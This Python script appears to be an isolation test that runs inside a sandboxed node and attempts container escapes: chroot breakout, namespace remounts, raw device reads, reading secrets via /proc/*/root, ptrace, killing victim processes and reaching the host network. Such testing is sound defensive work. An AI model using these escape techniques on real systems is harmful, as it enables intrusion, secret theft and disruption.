"""Runs in a node and tries to reach what is outside.  Prints one JSON object: what it managed, and what it is meant to be able to.

Arguments: one JSON object {"secrets": [paths], "victims": [pids], "port": a port of the host's loopback, "abstract": a socket name}.
"""

# An attack is written with the rawest calls there are, and what it prints is its result.
# ruff: noqa: BLE001, PTH102, PTH123, PTH207, PTH208, SIM115, T201

from __future__ import annotations

import ctypes
import glob
import json
import os
import socket
import subprocess
import sys

libc = ctypes.CDLL(None, use_errno=True)
NEWUSER, NEWNS, NEWPID, NEWNET = 0x10000000, 0x20000, 0x20000000, 0x40000000
goal = json.loads(sys.argv[1])
managed: list[str] = []


def attempt(name: str, action) -> None:
    try:
        result = action()
    except (OSError, subprocess.SubprocessError):
        return
    if result is not False:
        managed.append(f"{name}: {result!r}"[:200])


def call(name: str, *arguments) -> int | bool:
    return libc[name](*arguments) >= 0 and 0


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(80)


def write(path: str, text: str = "0") -> int:
    with open(path, "w") as file:
        return file.write(text)


def exits_0(*argv: str) -> bool | str:
    return subprocess.run(argv, capture_output=True, timeout=10, check=False).returncode == 0 and " ".join(argv)


def connect(family: int, address: object) -> str:
    with socket.socket(family) as sock:
        sock.settimeout(1)
        sock.connect(address)
        return "connected"


def in_child(action) -> bool | str:
    """Whether `action` succeeds in a process of its own, which may change its namespaces."""
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(0 if action() is not False else 1)
        except BaseException:
            os._exit(1)
    return os.waitpid(pid, 0)[1] == 0 and "done"


def own_world() -> None:
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(NEWUSER | NEWNS | NEWPID) < 0:
        raise OSError
    write("/proc/self/setgroups", "deny")
    write("/proc/self/uid_map", f"0 {uid} 1")
    write("/proc/self/gid_map", f"0 {gid} 1")


def remount_usr() -> int:
    own_world()
    if libc.mount(None, b"/usr", None, 0x20 | 0x1000, None) < 0:
        raise OSError
    return write("/usr/envctl-hostile")


def uncover_proc() -> int:
    own_world()
    if libc.umount2(b"/proc/sys", 2) < 0:
        raise OSError
    return write("/proc/sys/kernel/printk", read("/proc/sys/kernel/printk").decode())


def fresh_proc() -> int:
    own_world()
    if os.fork() == 0:
        os.mkdir("/tmp/proc")
        failed = libc.mount(b"proc", b"/tmp/proc", b"proc", 0, None) < 0
        os._exit(1 if failed or not write("/tmp/proc/sys/kernel/printk", read("/tmp/proc/sys/kernel/printk").decode()) else 0)
    if os.wait()[1]:
        raise OSError
    return 0


def device() -> bytes:
    own_world()
    os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))
    return read("/tmp/disk")


def escape_by_chroot() -> bytes:
    own_world()
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    return read(goal["secrets"][0])


def files() -> None:
    for secret in goal["secrets"]:
        for prefix in ("", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/../../../../..", *glob.glob("/proc/[0-9]*/root")):
            attempt(f"read {prefix}{secret}", lambda path=prefix + secret: read(path))
            attempt(f"list {prefix}{secret}", lambda path=prefix + secret: os.listdir(path))
            attempt(f"connect {prefix}{secret}", lambda path=prefix + secret: connect(socket.AF_UNIX, path))
    for path in ("/root", "/home", "/var/lib", "/boot", "/mnt", "/opt", "/run/user"):
        attempt(f"list {path}", lambda path=path: os.listdir(path))
    for path in (
        "/envctl-hostile", "/usr/envctl-hostile", "/etc/passwd", "/etc/resolv.conf", "/dev/envctl-hostile", "/sys/envctl-hostile",
        "/proc/sys/kernel/printk", "/proc/sys/vm/drop_caches", "/proc/sys/net/ipv4/ip_forward", "/proc/sys/kernel/hostname",
        "/proc/sys/net/ipv4/ip_unprivileged_port_start", "/proc/sysrq-trigger", "/proc/1/oom_score_adj_",
    ):
        attempt(f"write {path}", lambda path=path: write(path))
    for path in ("/dev/kmsg", "/dev/mem", "/dev/vda", "/dev/sda", "/proc/kcore", "/proc/kmsg"):
        attempt(f"read {path}", lambda path=path: read(path))
    attempt("mknod", lambda: os.mknod("/tmp/node", 0o60666, os.makedev(254, 0)))
    attempt("chroot", lambda: os.chroot("/tmp"))


def kernel() -> None:
    attempt("mount", lambda: call("mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None))
    attempt("remount", lambda: call("mount", None, b"/usr", None, 0x20 | 0x1000, None))
    attempt("umount", lambda: call("umount2", b"/proc/sys", 2))
    attempt("setuid", lambda: os.setuid(0))
    attempt("setgid", lambda: os.setgid(0))
    attempt("sethostname", lambda: socket.sethostname("hostile"))
    attempt("open_by_handle_at", lambda: call("open_by_handle_at", -100, b"\x08\0\0\0\1\0\0\0\2\0\0\0\0\0\0\0", 0))
    for action in (remount_usr, uncover_proc, fresh_proc, device, escape_by_chroot):
        attempt(action.__name__, lambda action=action: in_child(action))
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    for line, safe in (("CapEff", "0" * 16), ("CapPrm", "0" * 16), ("CapInh", "0" * 16), ("CapAmb", "0" * 16), ("NoNewPrivs", "1")):
        if status[line].strip() != safe:
            managed.append(f"{line} is {status[line]}")
    if os.geteuid() == 0:
        managed.append("is root")


def network() -> None:
    attempt("host loopback", lambda: connect(socket.AF_INET, ("127.0.0.1", goal["port"])))
    attempt("host by the bridge", lambda: connect(socket.AF_INET, ("198.18.0.1", goal["port"])))
    attempt("route out", lambda: connect(socket.AF_INET, ("192.0.2.1", 80)))
    attempt("abstract socket", lambda: connect(socket.AF_UNIX, "\0" + goal["abstract"]))
    attempt("raw socket", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    attempt("link down", lambda: exits_0("ip", "link", "set", "eth0", "down"))
    attempt("address", lambda: exits_0("ip", "addr", "add", "198.18.9.9/16", "dev", "eth0"))
    attempt("rules", lambda: exits_0("nft", "add", "table", "ip", "hostile"))


def processes() -> None:
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    if len(seen) > 8:
        managed.append(f"sees {len(seen)} processes")
    for victim in goal["victims"]:
        attempt(f"ptrace {victim}", lambda pid=victim: call("ptrace", 16, pid, None, None))
        attempt(f"signal {victim}", lambda pid=victim: os.kill(pid, 9))


def able() -> list[str]:
    """What a node is meant to be able to do: if it can't, the attempts above prove nothing."""
    can = []
    if write("/data/mine", "1") and read("/data/mine"):
        can.append("data")
    if write("/tmp/mine", "1"):
        can.append("tmp")
    if read("/etc/passwd") and os.listdir("/usr/bin"):
        can.append("usr")
    with socket.socket() as sock:
        sock.bind(("0.0.0.0", 80))
        can.append("port 80")
    return can


files()
kernel()
network()
processes()
print(json.dumps({"managed": managed, "able": able()}), flush=True)
os.kill(-1, 9)  # everything that it may signal: its own node, which ends with that
